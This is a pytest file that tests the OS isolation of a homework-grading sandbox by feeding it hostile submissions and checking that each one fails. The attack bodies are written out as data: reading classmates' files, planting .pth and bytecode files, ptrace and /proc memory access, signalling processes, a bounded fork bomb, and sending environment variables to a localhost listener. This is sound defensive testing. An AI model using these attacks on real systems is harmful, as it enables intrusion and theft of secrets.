"""A hostile submission, run on each OS isolation path (refmlp/check/sandbox/confine.py), can neither
reach its classmates, the judge, the files on disk or the network, nor make a wrong gradient pass.

Each attack is a buggy homework (f' missing) whose backward turns correct when the attack works:
an attack that got through would turn FAIL into PASS. Each test asserts both that the verdict
stays FAIL and that the attack's side effect did not happen. Every attack is bounded in time and
size, and the only address any of them contacts is 127.0.0.1, on a listener the test starts.
"""

import os
import shutil
import socket
import subprocess
import sys
import threading
import time
import warnings
from pathlib import Path

import pytest

from check_fixtures import FPRIME_MISSING, force_isolation, submission
from refmlp.check import check_submission

FAST = dict(scenarios=["disc"], timeout=10)  # generous: the machine may be loaded
BUG = (FPRIME_MISSING[0], "g = g * self.fds[k](self.a[k]) if ESCAPED else g")

HEAD = '''
import os, sys
P = {params!r}
def attack():
{body}
try:
    ESCAPED = bool(attack())
except BaseException as exc:  # what stopped it, in the check's output
    print("attack refused:", type(exc).__name__, exc)
    ESCAPED = False
'''


@pytest.fixture(params=["namespaces", "fallback"])
def isolation(request, monkeypatch):
    return force_isolation(monkeypatch, request.param)


def needs(isolation, layer, paths=("fallback",)):
    """Skip where this path holds the attack through ``layer`` alone and the kernel lacks it (the
    README says what each path holds without Landlock or seccomp)."""
    from refmlp.check.sandbox import confine

    if isolation in paths and not any(lock.startswith(layer) for lock in confine.locks()):
        pytest.skip(f"the {isolation} path holds this attack through {layer}, which this kernel "
                    "lacks")


@pytest.fixture
def victim():
    """A process of the judge's user, outside the sandbox, for the signal attacks."""
    proc = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(60)"])
    yield proc
    proc.kill()
    proc.wait()


def state(pid):
    with open(f"/proc/{pid}/stat") as fh:
        return fh.read().rpartition(")")[2].split()[0]


def attacked(folder: Path, body: str, **params):
    """Check the submission in ``folder``: the buggy homework with ``body`` as its attack (the
    body of a function returning True when it got through), ``params`` given to it as P."""
    indented = "\n".join("    " + line for line in body.strip("\n").splitlines())
    extra = HEAD.format(params=params, body=indented)
    rep = check_submission(submission(folder, replace=[BUG], extra=extra), **FAST)
    assert rep.verdict == "fail", rep.to_text()
    assert rep.isolation.startswith(os.environ["REFMLP_ISOLATION"])
    return rep


def a_class(tmp_path):
    """A class folder: the attacker alice and her classmate bob, whose file is the canary."""
    bob = tmp_path / "class" / "bob"
    submission(bob, extra="\nCANARY = 'bob-7f3a'\n")
    return tmp_path / "class" / "alice", bob / "mlp.py", (bob / "mlp.py").read_bytes()


def test_classmates_files_can_be_neither_read_nor_listed(tmp_path, isolation):
    needs(isolation, "landlock")
    alice, bob, before = a_class(tmp_path)
    attacked(alice, '''
names = os.listdir(os.path.dirname(P["here"]))
print("listed", names)
if "bob" in names:
    return True
return "bob-7f3a" in open(P["bob"]).read()
''', here=str(alice), bob=str(bob))
    assert bob.read_bytes() == before


def test_classmates_files_cannot_be_overwritten(tmp_path, isolation):
    needs(isolation, "landlock")
    alice, bob, before = a_class(tmp_path)
    attacked(alice, '''
with open(P["bob"], "w") as fh:
    fh.write("def broken(:\\n")
return True
''', bob=str(bob))
    assert bob.read_bytes() == before


@pytest.mark.parametrize("where", ["tmp", "parent"])
def test_nothing_is_written_outside_the_scratch(tmp_path, isolation, where):
    needs(isolation, "landlock")
    sub = tmp_path / "sub"
    target = Path(f"/tmp/refmlp-attack-{os.getpid()}-{tmp_path.name}") if where == "tmp" \
        else tmp_path / "written-by-the-submission"
    try:
        attacked(sub, '''
with open(P["target"], "w") as fh:
    fh.write("escaped")
return True
''', target=str(target))
        assert not target.exists()
    finally:
        target.unlink(missing_ok=True)


def test_the_runs_own_request_cannot_be_rewritten(tmp_path, isolation):
    needs(isolation, "landlock")
    # the judge's folder of this run, two levels above the check's working folder
    attacked(tmp_path / "sub", '''
request = os.path.join(os.getcwd(), os.pardir, os.pardir, "request.json")
print("request at", os.path.abspath(request))
with open(request, "a") as fh:
    fh.write(" ")
return True
''')


def test_a_gigabyte_written_to_tmp_lands_nowhere(tmp_path, isolation):
    needs(isolation, "landlock")
    target = Path(f"/tmp/refmlp-attack-big-{os.getpid()}-{tmp_path.name}")
    try:
        attacked(tmp_path / "sub", '''
block = b"\\0" * 2**24
with open(P["target"], "wb") as fh:
    for _ in range(64):  # 1 GiB at most, 16 MiB at a time
        fh.write(block)
return True
''', target=str(target))
        assert not target.exists()
    finally:
        target.unlink(missing_ok=True)


def test_site_packages_and_the_judges_bytecode_cannot_be_written(tmp_path, isolation):
    needs(isolation, "landlock")
    import numpy

    import refmlp.check.judge

    pth = Path(numpy.__file__).parents[1] / f"refmlp-attack-{tmp_path.name}.pth"
    pyc = Path(refmlp.check.judge.__file__).parent / "__pycache__" / f"attack-{tmp_path.name}.pyc"
    try:
        attacked(tmp_path / "sub", '''
done = []
for path, text in ((P["pth"], "import os\\n"), (P["pyc"], "forged")):
    try:
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "w") as fh:
            fh.write(text)
        done.append(path)
    except OSError as exc:
        print("refused:", path, exc)
return bool(done)
''', pth=str(pth), pyc=str(pyc))
        assert not pth.exists() and not pyc.exists()
    finally:
        pth.unlink(missing_ok=True)
        pyc.unlink(missing_ok=True)


def test_the_judge_cannot_be_traced_nor_its_memory_or_output_opened(tmp_path, isolation):
    needs(isolation, "landlock")
    needs(isolation, "seccomp")
    attacked(tmp_path / "sub", '''
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
got = []
# PTRACE_SEIZE: would trace the judge without stopping it (detached when this process ends)
if libc.ptrace(0x4206, P["judge"], None, None) == 0:
    got.append("ptrace")
for path, mode in (("/proc/%d/mem" % P["judge"], os.O_RDWR), ("/proc/%d/fd/1" % P["judge"], os.O_WRONLY)):
    try:
        os.close(os.open(path, mode))
        got.append(path)
    except OSError as exc:
        print("refused:", path, exc)
print("got", got)
return bool(got)
''', judge=os.getpid())


def test_processes_outside_the_sandbox_cannot_be_signalled(tmp_path, isolation, victim):
    needs(isolation, "seccomp")
    # signal 0 for the judge itself (the permission test of SIGKILL and SIGSTOP, without the
    # harm should the sandbox fail); the victim, a process of the same user, gets the real ones
    attacked(tmp_path / "sub", '''
import signal
hit = []
for pid in [os.getppid(), P["judge"]] + [int(n) for n in os.listdir("/proc") if n.isdigit()]:
    if pid != os.getpid():
        try:
            os.kill(pid, 0)
            hit.append(pid)
        except OSError:
            pass
for sig in (signal.SIGSTOP, signal.SIGKILL):
    try:
        os.kill(P["victim"], sig)
        hit.append(P["victim"])
    except OSError as exc:
        print("refused:", sig, exc)
print("signalled", hit)
return bool(hit)
''', judge=os.getpid(), victim=victim.pid)
    assert victim.poll() is None and state(victim.pid) not in "TtZ"


def test_no_process_escapes_the_check_nor_writes_into_the_pipes(tmp_path, isolation):
    needs(isolation, "seccomp", paths=("namespaces", "fallback"))
    marks = tmp_path / "marks"
    marks.mkdir()
    t0 = time.monotonic()
    rep = attacked(tmp_path / "sub", '''
import time
started = 0
for _ in range(50):  # a fork bomb, bounded: each child would wait 2 s, then exit
    pid = os.fork()
    if pid == 0:
        os.setsid()
        open(os.path.join(P["marks"], str(os.getpid())), "w").close()
        for fd in range(64):  # a daemon writing into every pipe it holds, later
            try:
                os.write(fd, b"\\xff" * 64)
            except OSError:
                pass
        time.sleep(2)
        os._exit(0)
    started += 1
return started > 0
''', marks=str(marks))
    assert not list(marks.iterdir())
    assert time.monotonic() - t0 < 30, "the checks took as long as a fork bomb would make them"
    assert all(c.verdict in ("pass", "fail") for c in rep.checks), rep.to_text()


def test_nothing_reaches_a_listener_on_localhost(tmp_path, isolation):
    needs(isolation, "seccomp")
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(8)
    server.settimeout(0.2)
    received = []

    def listen():
        while not done.is_set():
            try:
                conn, _ = server.accept()
            except OSError:
                continue
            with conn:
                conn.settimeout(2)
                received.append(conn.recv(1 << 16))

    done = threading.Event()
    thread = threading.Thread(target=listen)
    thread.start()
    try:
        attacked(tmp_path / "sub", '''
import json, socket
home = os.path.expanduser("~")
loot = json.dumps({"env": dict(os.environ), "home": home, "files": os.listdir(home)
                   if os.path.isdir(home) else []}).encode()
s = socket.create_connection(("127.0.0.1", P["port"]), timeout=2)
s.sendall(loot)
s.close()
return True
''', port=server.getsockname()[1])
    finally:
        done.set()
        thread.join()
        server.close()
    assert received == []


@pytest.mark.parametrize("module", ["refmlp.network", "torch"])
def test_the_reference_and_torch_cannot_be_imported(tmp_path, isolation, module):
    needs(isolation, "landlock")
    attacked(tmp_path / "sub", f'''
import importlib
importlib.import_module({module!r})
return True
''')


def test_the_isolation_in_force_is_in_the_report(tmp_path, isolation):
    rep = check_submission(submission(tmp_path), **FAST)
    assert rep.verdict == "pass", rep.to_text()
    assert rep.isolation.startswith(isolation + ":")
    assert f"isolation: {isolation}:" in rep.to_text()
    assert rep.to_dict()["isolation"] == rep.isolation


def test_unisolated_runs_say_so(tmp_path, monkeypatch):
    force_isolation(monkeypatch, "none")
    rep = check_submission(submission(tmp_path), **FAST)
    assert rep.isolation == "none" and "isolation: none" in rep.to_text()


def test_an_unknown_or_unavailable_isolation_is_refused(tmp_path, monkeypatch):
    monkeypatch.setenv("REFMLP_ISOLATION", "chroot")
    with pytest.raises(ValueError, match="REFMLP_ISOLATION='chroot': expected one of"):
        check_submission(submission(tmp_path), **FAST)


@pytest.mark.skipif(not hasattr(os, "geteuid") or os.geteuid() != 0, reason="run as root only")
def test_a_root_fallback_hands_the_scratch_to_nobody_and_keeps_nothing_else(tmp_path):
    from refmlp.check.sandbox import confine

    scratch = tmp_path / "scratch"
    (scratch / "pkg").mkdir(parents=True)
    (scratch / "pkg" / "mlp.py").write_text("")
    with warnings.catch_warnings():  # Python 3.12 warns of fork with threads; the child only exits
        warnings.simplefilter("ignore", DeprecationWarning)
        pid = os.fork()
    if pid == 0:
        code = 1
        try:
            os.chdir(scratch)  # relative paths: pytest's folders above are root's alone
            confine.drop_privileges(str(scratch), switch_uid=True)
            with open("pkg/written", "w") as fh:
                fh.write("ok")
            try:
                open("../outside", "w")
            except PermissionError:
                code = 0 if (os.getuid(), os.getgid(), os.getgroups()) == (65534, 65534, []) else 3
        finally:
            os._exit(code)
    assert os.waitpid(pid, 0)[1] == 0
    assert (scratch / "pkg" / "written").read_text() == "ok"
    assert not (tmp_path / "outside").exists()


def test_the_filter_refuses_what_a_check_never_needs():
    # a child of this test, filtered, then trying each call: refusals are errors, threads work
    from refmlp.check.sandbox import seccomp

    if not seccomp.supported():
        pytest.skip(f"no seccomp table for {seccomp.machine()} or no seccomp in this kernel")
    code = r'''
import ctypes, os, socket, sys, threading
from refmlp.check.sandbox import confine, seccomp
confine.prctl(confine.PR_SET_NO_NEW_PRIVS, 1)
seccomp.install(os.getpid())
out = []
def tried(name, fn):
    try:
        fn()
        out.append(name + ":ok")
    except OSError as exc:
        out.append(f"{name}:{exc.errno}")
tried("fork", os.fork)
tried("socket", socket.socket)
tried("kill-parent", lambda: os.kill(os.getppid(), 0))
tried("kill-self", lambda: os.kill(os.getpid(), 0))
t = threading.Thread(target=lambda: None)
tried("thread", lambda: (t.start(), t.join()))
tried("exec", lambda: os.execv(sys.executable, [sys.executable, "-c", "pass"]))
libc = ctypes.CDLL(None, use_errno=True)
for name, call in (("ptrace", lambda: libc.ptrace(0x4206, os.getppid(), None, None)),
                   ("unshare", lambda: libc.unshare(confine.CLONE_NEWUSER)),
                   ("mount", lambda: libc.mount(b"none", b"/tmp", b"tmpfs", 0, None)),
                   ("clone3", lambda: libc.syscall(435, None, 0))):
    out.append(f"{name}:{call()}/{ctypes.get_errno()}")
print(" ".join(out))
'''
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=60)
    # errno 1 is EPERM, 38 ENOSYS (clone3: glibc then falls back to clone)
    assert out.stdout.split() == ["fork:1", "socket:1", "kill-parent:1", "kill-self:ok",
                                  "thread:ok", "exec:1", "ptrace:-1/1", "unshare:-1/1",
                                  "mount:-1/1", "clone3:-1/38"], out.stdout + out.stderr


def test_grading_a_class_unisolated_needs_an_explicit_flag(tmp_path, monkeypatch, capsys):
    from refmlp import cli

    force_isolation(monkeypatch, "none")
    submission(tmp_path / "class" / "alice")
    args = ["check", "--each", str(tmp_path / "class"), "--scenario", "disc"]
    assert cli.main(args) == cli.EXIT_USAGE
    err = capsys.readouterr().err
    assert "no isolation (REFMLP_ISOLATION=none)" in err and "--allow-unisolated" in err, err
    assert cli.main(args + ["--allow-unisolated"]) == 0
    out = capsys.readouterr().out
    assert "alice" in out and "isolation: none" in out, out


NAMESPACE_ROOT = r'''
import json, os, socket, sys, tempfile, time
from refmlp.check.sandbox import confine
tmp = tempfile.mkdtemp(prefix="refmlp-ns-test-")
os.mkdir(tmp + "/root")
confine.enter_namespaces(tmp + "/root", tmp + "/scratch")
seen = {"pid": os.getpid(), "uid": os.getuid(), "root": sorted(os.listdir("/")),
        "links": [name for _, name in socket.if_nameindex()], "scratch": os.listdir(tmp),
        "tmp": tmp}
try:
    open("/written", "w")
    seen["written"] = True
except OSError as exc:
    seen["written"] = exc.errno
try:  # loopback is down in a new network namespace: not even 127.0.0.1 answers
    socket.create_connection(("127.0.0.1", 9), timeout=1)
    seen["loopback"] = True
except OSError as exc:
    seen["loopback"] = exc.errno
print(json.dumps(seen), flush=True)
if os.fork() == 0:  # left behind by PID 1, which now exits
    os.setsid()
    time.sleep(60)
    os._exit(0)
os._exit(0)
'''


def test_the_namespace_root_holds_only_what_a_check_needs_and_dies_with_its_pid_1(monkeypatch):
    import errno
    import json

    force_isolation(monkeypatch, "namespaces")
    mark = f"REFMLP_NS_TEST={os.getpid()}"
    env = dict(os.environ, REFMLP_NS_TEST=str(os.getpid()))
    out = subprocess.run([sys.executable, "-c", NAMESPACE_ROOT], capture_output=True, text=True,
                         timeout=60, env=env)
    assert out.returncode == 0, out.stderr
    seen = json.loads(out.stdout)
    shutil.rmtree(seen["tmp"])
    assert seen["pid"] == 1 and seen["links"] == ["lo"] and seen["loopback"] == errno.ENETUNREACH
    assert seen["written"] == errno.EROFS
    assert seen["root"] == sorted({"dev", "proc"} | {p.split(os.sep)[1] for p in (
        os.path.dirname(os.__file__), __import__("numpy").__file__, str(Path(__file__).parents[1]),
        "/tmp")}), seen
    assert seen["scratch"] == ["scratch"]  # the judge's folder holds only the scratch's mount point
    assert seen["uid"] == (65534 if os.geteuid() == 0 else 0)

    def left():
        found = []
        for name in filter(str.isdigit, os.listdir("/proc")):
            try:
                with open(f"/proc/{name}/environ", "rb") as fh:
                    if mark.encode() in fh.read().split(b"\0") and state(name) != "Z":
                        found.append(name)
            except OSError:
                pass
        return found

    deadline = time.monotonic() + 5  # the kernel kills the namespace's processes asynchronously
    while left() and time.monotonic() < deadline:
        time.sleep(0.05)
    assert left() == []


def test_an_unknown_isolation_is_a_usage_error_of_the_command(tmp_path, monkeypatch, capsys):
    from refmlp import cli

    monkeypatch.setenv("REFMLP_ISOLATION", "jail")
    assert cli.main(["check", str(submission(tmp_path))]) == cli.EXIT_USAGE
    assert "REFMLP_ISOLATION='jail': expected one of namespaces, fallback, none" in capsys.readouterr().err


def test_a_check_may_read_the_stdlib_numpy_and_the_sandbox_only(tmp_path):
    import numpy

    from refmlp.check.sandbox import confine

    adapter = tmp_path / "adapter.py"
    adapter.write_text("")
    numpy_dir = os.path.dirname(os.path.realpath(numpy.__file__))
    allowed = {os.path.realpath(os.path.dirname(os.__file__)), numpy_dir, numpy_dir + ".libs",
               os.path.join(numpy_dir, ".libs"), os.path.dirname(os.path.realpath(confine.__file__)),
               str(adapter.resolve())}
    trees = confine.read_trees(str(adapter))
    assert set(trees) <= allowed and str(adapter.resolve()) in trees, trees
    assert not any(t.endswith(("site-packages", "dist-packages")) for t in trees)
